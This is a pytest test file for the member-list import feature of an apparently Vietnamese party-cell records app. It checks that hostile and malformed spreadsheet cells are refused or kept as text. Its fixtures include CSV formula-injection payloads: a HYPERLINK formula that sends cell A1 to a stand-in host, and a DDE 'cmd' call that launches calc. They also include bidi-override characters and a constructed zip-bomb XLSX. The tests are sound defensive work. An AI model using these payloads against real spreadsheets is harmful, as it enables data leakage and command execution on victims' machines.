"""Import hardening (issue 15): what the preview accepts always imports; odd and hostile cells are reported
or kept as text; re-importing a list without identifiers never duplicates anyone."""

import csv
import datetime as dt
import zipfile

import pytest

from cellsec.services.errors import ServiceError
from cellsec.services.members.service import MemberInput, MemberQuery

from .test_importer import TODAY, audit_count, write_csv, write_xlsx

HEAD = ["Họ và tên", "Ngày sinh", "Giới tính", "Ngày vào Đảng", "Số CCCD", "Số SĐV", "Quê quán"]


def row(name, cccd="", list_no="", hometown="", born="05/02/1980", gender="Nam"):
    return [name, born, gender, "19/05/2005", cccd, list_no, hometown]


def preview_and_commit(services, path):
    preview = services.importer.preview(path, today=TODAY)
    return preview, services.importer.commit(preview, today=TODAY)


def test_a_list_number_too_large_for_the_database_is_refused_in_the_preview(services, tmp_path):
    path = write_csv(tmp_path / "ds.csv", [HEAD, row("Nguyễn Văn An", list_no="99999999999999999999999"),
                                           row("Lê Văn Bình", list_no="12")])
    preview, result = preview_and_commit(services, path)
    assert [r.action for r in preview.rows] == ["reject", "add"]
    assert "Số SĐV" in preview.rows[0].reason and "quá lớn" in preview.rows[0].reason
    assert result.imported == 1 and [m.list_no for m in services.members.list()] == [12]


def test_a_field_over_128_kb_is_reported_and_the_other_rows_import(services, tmp_path):
    huge = "Xóm " + "x" * 200_000
    path = write_csv(tmp_path / "ds.csv", [HEAD, row("Nguyễn Văn An", hometown=huge), row("Lê Văn Bình")])
    preview, result = preview_and_commit(services, path)
    assert preview.rows[0].action == "reject" and "Quê quán" in preview.rows[0].reason
    assert "Dài 200.004 ký tự, tối đa 200" in preview.rows[0].reason
    assert result.imported == 1


def test_an_unbalanced_quote_is_reported_not_swallowed(services, tmp_path):
    text = ("Họ và tên,Ngày sinh,Giới tính,Ngày vào Đảng\n"
            "Nguyễn Văn An,05/02/1980,Nam,19/05/2005\n"
            "\"Lê Văn Bình,05/02/1981,Nam,19/05/2006\n"
            "Trần Văn Chí,05/02/1982,Nam,19/05/2007\n")
    path = tmp_path / "ds.csv"
    path.write_text(text, encoding="utf-8")
    preview = services.importer.preview(path, today=TODAY)
    assert [r.action for r in preview.rows] == ["add", "reject"]
    assert "ngoặc kép" in preview.rows[1].reason and "dòng 3" in preview.rows[1].reason


def test_a_stray_quote_inside_a_row_is_reported_and_the_next_rows_still_read(services, tmp_path):
    text = ("Họ và tên,Ngày sinh,Giới tính,Ngày vào Đảng\n"
            "\"Nguyễn\" Văn An,05/02/1980,Nam,19/05/2005\n"
            "Trần Văn Chí,05/02/1982,Nam,19/05/2007\n")
    path = tmp_path / "ds.csv"
    path.write_text(text, encoding="utf-8")
    preview = services.importer.preview(path, today=TODAY)
    assert [(r.row, r.action) for r in preview.rows] == [(2, "reject"), (3, "add")]
    assert "sai định dạng CSV" in preview.rows[0].reason


def test_merged_cells_take_the_merged_value(services, tmp_path):
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(["DANH SÁCH ĐẢNG VIÊN"])
    ws.merge_cells("A1:E1")
    ws.append(["Họ và tên", "Ngày sinh", "Giới tính", "Ngày vào Đảng", "Quê quán"])
    ws.append(["Nguyễn Văn An", "05/02/1980", "Nam", "19/05/2005", "Hưng Nguyên"])
    ws.append(["Lê Văn Bình", "05/02/1981", None, "19/05/2006", None])
    ws.merge_cells("C3:C4")
    ws.merge_cells("E3:E4")
    wb.save(tmp_path / "ds.xlsx")
    preview, result = preview_and_commit(services, tmp_path / "ds.xlsx")
    assert preview.header_row == 2 and [r.action for r in preview.rows] == ["add", "add"]
    binh = services.members.list(MemberQuery(text="binh"))[0]
    assert binh.gender == "nam" and binh.hometown == "Hưng Nguyên"


@pytest.mark.parametrize("typed", ["０４００８０００１２３４", "٠٤٠٠٨٠٠٠١٢٣٤", "۰۴۰۰۸۰۰۰۱۲۳۴"])
def test_digits_of_other_scripts_are_plain_digits_before_any_check(services, tmp_path, typed):
    existing = services.members.add(MemberInput(
        full_name="Nguyễn Văn An", date_of_birth=dt.date(1980, 2, 5), gender="nam", cccd="040080001234",
        admitted_on=dt.date(2005, 5, 19)), today=TODAY)
    path = write_csv(tmp_path / "ds.csv", [HEAD, row("Nguyễn Văn An", cccd=typed, list_no="７")])
    preview, _ = preview_and_commit(services, path)
    assert [(r.action, r.member_id) for r in preview.rows] == [("update", existing.id)]
    assert services.members.member_count() == 1
    assert services.members.get(existing.id).list_no == 7


@pytest.mark.parametrize("name, expected", [
    ("Nguyễn Văn " + "A" * 100_000, "tối đa 100"),
    ("Nguyễn\u202eVăn An", "U+202E"),
    ("Nguyễn\u200fVăn An", "U+200F"),
    ("Nguyễn\x07Văn An", "U+0007"),
])
def test_overlong_names_and_hidden_controls_are_refused(services, tmp_path, name, expected):
    path = write_csv(tmp_path / "ds.csv", [HEAD, row(name), row("Lê Văn Bình")])
    preview, result = preview_and_commit(services, path)
    assert preview.rows[0].action == "reject" and expected in preview.rows[0].reason
    assert preview.rows[0].reason.startswith("Họ và tên: ")
    assert result.imported == 1 and [m.full_name for m in services.members.list()] == ["Lê Văn Bình"]


def test_formula_looking_cells_are_stored_as_text_and_exported_as_text(services, tmp_path):
    from openpyxl import load_workbook

    from cellsec.reports.members_xlsx import write_members_xlsx

    evil = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'
    rows = [HEAD + ["Điện thoại", "Ghi chú"],
            row(evil) + ["+84 912 345 678", "@SUM(1+1)"], row("-Lê Văn Bình", born="06/02/1980") + ["", "=cmd|' /C calc'!A0"]]
    path = tmp_path / "ds.csv"
    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows(rows)
    _, result = preview_and_commit(services, path)
    assert result.imported == 2
    members = {m.full_name: m for m in services.members.list()}
    assert evil in members and members[evil].phone == "+84 912 345 678" and members[evil].note == "@SUM(1+1)"

    out = write_members_xlsx(services.cell.get(), services.members.list(), tmp_path / "xuat.xlsx")
    with zipfile.ZipFile(out) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no live formula anywhere
    ws = load_workbook(out).active
    cells = {c.value: c for r in ws.iter_rows() for c in r if isinstance(c.value, str)}
    assert cells[evil].data_type == "s" and cells[evil].quotePrefix
    assert cells["-Lê Văn Bình"].quotePrefix and cells["+84 912 345 678"].quotePrefix
    # The export reads back as the same text.
    again = services.importer.preview(out, today=TODAY)
    assert {r.name for r in again.rows} == {evil, "-Lê Văn Bình"}
    assert [r.action for r in again.rows] == ["update", "update"]


def test_reimport_without_cccd_or_card_matches_by_name_and_birth_date(services, tmp_path, data_dir):
    rows = [HEAD, row("Nguyễn Văn An"), row("Lê Văn Bình", born="01/01/1975"), row("NGUYỄN VĂN CHÍ")]
    path = write_csv(tmp_path / "ds.csv", rows)
    preview_and_commit(services, path)
    before = audit_count(data_dir)
    preview, result = preview_and_commit(services, path)
    assert [r.action for r in preview.rows] == ["update"] * 3
    assert (result.imported, result.unchanged) == (0, 3) and audit_count(data_dir) == before
    assert services.members.member_count() == 3

    # A later list that adds the CCCD updates the same member instead of adding a second one.
    later = [HEAD, row("Nguyễn  văn an", cccd="040080001234")]
    preview, _ = preview_and_commit(services, write_csv(tmp_path / "ds2.csv", later))
    assert preview.rows[0].action == "update"
    assert services.members.member_count() == 3
    assert services.members.list(MemberQuery(text="an"))[0].cccd == "040080001234"


def test_same_name_and_birth_date_twice_in_a_file_is_a_duplicate(services, tmp_path):
    path = write_csv(tmp_path / "ds.csv", [HEAD, row("Nguyễn Văn An"), row("Nguyễn Văn An")])
    preview = services.importer.preview(path, today=TODAY)
    assert preview.rows[1].action == "reject"
    assert preview.rows[1].reason == "Trùng họ tên và ngày sinh với dòng 2 trong tệp."


def test_two_members_with_the_same_name_and_birth_date_are_not_guessed(services, tmp_path):
    for cccd in ("040080001234", "040080005678"):
        services.members.add(MemberInput(full_name="Nguyễn Văn An", date_of_birth=dt.date(1980, 2, 5), gender="nam",
                                         cccd=cccd, admitted_on=dt.date(2005, 5, 19)), today=TODAY)
    path = write_csv(tmp_path / "ds.csv", [HEAD, row("Nguyễn Văn An", list_no="3")])
    preview = services.importer.preview(path, today=TODAY)
    # Both have a CCCD, the row has none: neither is taken for the row; a new member would be a third.
    assert preview.rows[0].action == "reject" and "Có 2 đảng viên cùng họ tên" in preview.rows[0].reason


def test_a_file_changed_after_the_preview_is_not_imported(services, tmp_path):
    path = write_csv(tmp_path / "ds.csv", [HEAD, row("Nguyễn Văn An")])
    preview = services.importer.preview(path, today=TODAY)
    write_csv(path, [HEAD, row("Nguyễn Văn An"), row("Lê Văn Bình")])
    with pytest.raises(ServiceError) as err:
        services.importer.commit(preview, today=TODAY)
    assert "đã thay đổi từ lúc xem trước" in err.value.message
    assert services.members.member_count() == 0


def test_dates_before_1880_or_after_2100_are_refused(services, tmp_path):
    late = row("Lê Văn Bình")
    late[3] = dt.datetime(9999, 12, 31)  # (a probation end computed from it would not exist)
    path = write_xlsx(tmp_path / "ds.xlsx", [HEAD + ["Ngày chính thức"], row("Nguyễn Văn An", born="05/02/0980"),
                                             late + [dt.datetime(9999, 12, 31)]])
    preview = services.importer.preview(path, today=TODAY)
    assert preview.rows[0].action == "reject" and "Năm 980 không hợp lý" in preview.rows[0].reason
    assert preview.rows[1].action == "reject" and "Năm 9999 không hợp lý (sau 2100)" in preview.rows[1].reason


def test_a_file_over_the_size_limit_is_refused_before_reading(services, tmp_path, monkeypatch):
    from cellsec.domain import member_import

    monkeypatch.setattr(member_import, "MAX_FILE_BYTES", 1024)
    path = write_csv(tmp_path / "ds.csv", [HEAD, *[row(f"Nguyễn Văn {i}") for i in range(50)]])
    with pytest.raises(ServiceError) as err:
        services.importer.preview(path, today=TODAY)
    assert "quá lớn" in err.value.message and "tối đa 0 MB" in err.value.message


def test_more_rows_than_the_limit_are_refused_with_the_limit_named(services, tmp_path, monkeypatch):
    from cellsec.domain import member_import

    monkeypatch.setattr(member_import, "MAX_ROWS", 20)
    path = write_csv(tmp_path / "ds.csv", [HEAD, *[row(f"Nguyễn Văn {i}") for i in range(21)]])
    with pytest.raises(ServiceError) as err:
        services.importer.preview(path, today=TODAY)
    assert err.value.message == ("Tệp ds.csv có hơn 20 dòng dữ liệu; chỉ nhập được tối đa 20 dòng mỗi lần. "
                                 "Hãy tách tệp.")


def test_an_xlsx_zip_bomb_is_refused_before_it_is_unpacked(services, tmp_path):
    path = write_xlsx(tmp_path / "ds.xlsx", [HEAD, row("Nguyễn Văn An")])
    bomb = tmp_path / "bom.xlsx"
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":  # 20 MB of spaces packs into a few KB
                data = data.replace(b"</sheetData>", b" " * 20_000_000 + b"</sheetData>")
            dst.writestr(info, data, compress_type=zipfile.ZIP_DEFLATED)
    assert bomb.stat().st_size < 200_000
    with pytest.raises(ServiceError) as err:
        services.importer.preview(bomb, today=TODAY)
    assert "giải nén ra quá lớn" in err.value.message


def test_an_eleven_digit_cccd_gets_its_zero_only_when_excel_dropped_it(services, tmp_path):
    rows = [HEAD, row("Nguyễn Văn An", cccd=40080001234), row("Lê Văn Bình", cccd="04008000123"),
            row("Trần Văn Chí", cccd="'40080005678")]
    preview = services.importer.preview(write_xlsx(tmp_path / "ds.xlsx", rows), today=TODAY)
    assert [(r.action, r.cccd) for r in preview.rows] == [("add", "040080001234"), ("reject", "04008000123"),
                                                         ("reject", "'40080005678")]
    assert any("số 0 ở đầu" in w for w in preview.rows[0].warnings)
    assert "11 chữ số: thiếu một chữ số" in preview.rows[1].reason and "11 chữ số" in preview.rows[2].reason
    # A CSV has no cell types: Excel wrote the number bare, so 11 digits not starting with 0 lost their zero.
    csv_rows = [HEAD, row("Nguyễn Văn An", cccd="40080001234"), row("Lê Văn Bình", cccd="04008000123")]
    preview = services.importer.preview(write_csv(tmp_path / "ds.csv", csv_rows), today=TODAY)
    assert [(r.action, r.cccd) for r in preview.rows] == [("add", "040080001234"), ("reject", "04008000123")]


def test_a_cccd_contradicting_gender_or_birth_year_is_refused_with_the_reason(services, tmp_path):
    rows = [HEAD, row("Nguyễn Văn An", cccd="040180001234"), row("Lê Văn Bình", cccd="040079001234"),
            row("Trần Thị Chi", cccd="040180005678", gender="Nữ")]
    preview = services.importer.preview(write_csv(tmp_path / "ds.csv", rows), today=TODAY)
    assert [r.action for r in preview.rows] == ["reject", "reject", "add"]
    assert preview.rows[0].reason == ("Số CCCD: Số CCCD có chữ số thứ 4 là 1 (Nữ, sinh thế kỷ 1900), không khớp "
                                      "giới tính Nam trong dòng.")
    assert preview.rows[1].reason == ("Số CCCD: Số CCCD mã hóa năm sinh 1979 (chữ số 4–6), không khớp ngày sinh "
                                      "05/02/1980 trong dòng.")


def test_columns_chosen_by_hand_are_used_by_preview_and_import(services, tmp_path):
    from cellsec.services.members.import_header import HeaderNotFound, Mapping

    path = write_csv(tmp_path / "ds.csv", [["A", "B", "C", "D", "E"],
                                           ["Nguyễn Văn An", "05/02/1980", "Nam", "19/05/2005", "7"]])
    with pytest.raises(HeaderNotFound) as err:
        services.importer.preview(path, today=TODAY)
    assert err.value.candidates[0] == (1, ["A", "B", "C", "D", "E"])
    mapping = Mapping(1, {0: "full_name", 1: "date_of_birth", 2: "gender", 3: "admitted_on", 4: "list_no"})
    preview = services.importer.preview(path, today=TODAY, mapping=mapping)
    assert [(r.row, r.action, r.name) for r in preview.rows] == [(2, "add", "Nguyễn Văn An")]
    services.importer.commit(preview, today=TODAY)
    assert services.members.list()[0].list_no == 7
    with pytest.raises(ServiceError) as err:
        services.importer.preview(path, today=TODAY, mapping=Mapping(1, {1: "date_of_birth"}))
    assert err.value.message == "Hãy chọn cột nào là \"Họ và tên\"."


def test_the_sample_file_imports_cleanly_in_both_formats(services, tmp_path):
    from cellsec.reports.members_import import write_sample

    for name in ("mau.xlsx", "mau.csv"):
        preview = services.importer.preview(write_sample(tmp_path / name), today=TODAY)
        assert [(r.action, r.reason) for r in preview.rows] == [("add", ""), ("add", "")], name
        assert preview.rows[0].cccd == "040078001234" and "Ghi chú" in preview.columns


def test_rejected_rows_saved_as_csv_keep_their_cells_and_formulas_stay_text(services, tmp_path):
    from cellsec.reports.members_import import write_rows

    rows = [HEAD, row("=1+1 Nguyễn", born="31/02/1980"), row("Lê Văn Bình")]
    path = tmp_path / "ds.csv"
    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows(rows)
    preview = services.importer.preview(path, today=TODAY)
    out = write_rows(tmp_path / "loi.csv", services.importer.rejected_rows(preview))
    with open(out, encoding="utf-8-sig", newline="") as fh:
        saved = list(csv.reader(fh))
    assert saved[0] == [*HEAD, "Lý do chưa nhập được"]
    assert saved[1][0] == "'=1+1 Nguyễn" and saved[1][1] == "31/02/1980" and "không hợp lệ" in saved[1][-1]
    assert len(saved) == 2
    again = services.importer.preview(out, today=TODAY)
    assert again.rows[0].name == "=1+1 Nguyễn"  # the apostrophe that kept it text is not part of the name


def test_a_file_saying_utf8_but_holding_other_bytes_names_the_line(services, tmp_path):
    path = tmp_path / "ds.csv"
    path.write_bytes(b"\xef\xbb\xbf" + "Họ và tên,Ngày sinh\nNguyễn Văn An,05/02/1980\n".encode() + b"L\xea V\xe9n,01/01/1980\n")
    with pytest.raises(ServiceError) as err:
        services.importer.preview(path, today=TODAY)
    assert "gần dòng 3" in err.value.message and "CSV UTF-8" in err.value.message
